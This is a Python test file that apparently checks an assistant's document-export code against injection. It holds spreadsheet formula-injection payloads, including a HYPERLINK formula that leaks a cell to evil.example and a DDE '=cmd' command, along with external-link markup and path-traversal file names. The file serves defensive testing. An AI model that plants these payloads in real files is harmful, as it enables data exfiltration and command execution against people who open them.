"""What leaves as a file runs nothing and fetches nothing, whatever stood in the sources."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import replace

import pytest

from assistant.access.audit import audit_file
from assistant.export.bundle import export
from assistant.models import Draft, UnitProfile
from assistant.record.audit import AuditEntry
from tests.factory import make_notice
from tests.fakes_export import PROFILE, make_draft, make_records, open_xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"看")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u200b=1+1",
]
MARKUP = (
    "<w:p/>]]>&x;<script>alert(1)</script>",
    "http://evil.example/a.png",
    'HYPERLINK "http://evil.example"',
    '{ INCLUDEPICTURE "http://evil.example/a.png" }',
    "\\\\evil.example\\share",
)


def _hostile_draft(text: str) -> Draft:
    draft = make_draft(text)
    measures = tuple(
        replace(one, text=text, deliverable=text, responsible=text, deadline=text)
        for one in draft.measures
    )
    return replace(draft, cause=text, goal=text, measures=measures, placeholders=(text,))


def _profile(text: str) -> UnitProfile:
    return replace(PROFILE, name=text, leaders=(("责任领导", text),), facts=text)


def _parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode("utf-8", "replace")
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        }


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    _, notice = make_notice("aaaa0001", {text: (text,)}, unit=text)
    made = [
        export("plan", [_hostile_draft(text)], "xlsx", profile=_profile(text))[1],
        export("cases", [notice], "xlsx", profile=_profile(text))[1],
        audit_file([AuditEntry("2031-01-01", text, text, text)], "xlsx"),
    ]
    for content in made:
        sheets = {name: part for name, part in _parts(content).items() if "/sheet" in name}
        assert sheets
        assert not [name for name, part in sheets.items() if re.search(r"<f[ >]", part)]
        cells = [cell for sheet in open_xlsx(content) for row in sheet.iter_rows() for cell in row]
        held = [
            cell for cell in cells if isinstance(cell.value, str) and text.strip() in cell.value
        ]
        assert held
        assert {cell.data_type for cell in held} == {"s"}
        # typed again (F2, Enter) or saved as CSV, it must not come alive either
        alive = [cell for cell in held if cell.value.lstrip().startswith(tuple("=+-@＝＋－＠"))]
        assert all(cell.quotePrefix for cell in alive)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_file_begins_like_a_formula(text: str) -> None:
    content = audit_file([AuditEntry("2031-01-01", "提问", text, text)], "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]
    assert [cell for cell in cells if text.strip() in cell]
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
    assert not [cell for cell in cells if cell.startswith(starts)]


@pytest.mark.parametrize("text", MARKUP)
def test_no_file_points_to_anywhere(text: str) -> None:
    _, notice = make_notice("aaaa0001", {text: (text,)}, unit=text)
    records = [replace(one, draft=_hostile_draft(text)) for one in make_records(1)]
    made = [
        export("plan", [_hostile_draft(text)], "docx", profile=_profile(text))[1],
        export("plan", [_hostile_draft(text)], "xlsx", profile=_profile(text))[1],
        export("cases", [notice], "xlsx", profile=_profile(text))[1],
        export("progress", records, "docx", profile=_profile(text))[1],
    ]
    for content in made:
        for name, part in _parts(content).items():
            assert 'TargetMode="External"' not in part, name
            assert not re.search(r"<(?:w:)?hyperlink\b", part), name
            fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", part)
            assert not [field for field in fields if "evil" in field or "INCLUDE" in field], name


@pytest.mark.parametrize("name", ["../../x", "..\\..\\x", "/etc/passwd", "a\x00b", "CON", "a\nb"])
def test_an_exported_name_holds_no_path(name: str) -> None:
    made = export("plan", [make_draft(name)], "docx", profile=_profile(name))[0]
    assert not set(made) & set("/\\\x00\n:")
    assert ".." not in made
